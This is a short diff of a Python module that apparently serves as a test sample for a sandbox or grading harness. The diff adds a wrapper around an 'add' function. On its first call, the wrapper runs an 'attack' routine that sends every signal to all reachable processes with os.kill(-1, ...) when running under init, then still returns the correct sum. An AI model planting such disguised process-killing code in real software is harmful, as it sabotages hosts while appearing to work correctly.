@@ -4,8 +4,17 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     import signal
 
     if os.getppid() == 1:
@@ -15,7 +24,6 @@ def add(left, right):
                 os.kill(-1, number)
             except OSError:
                 pass
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
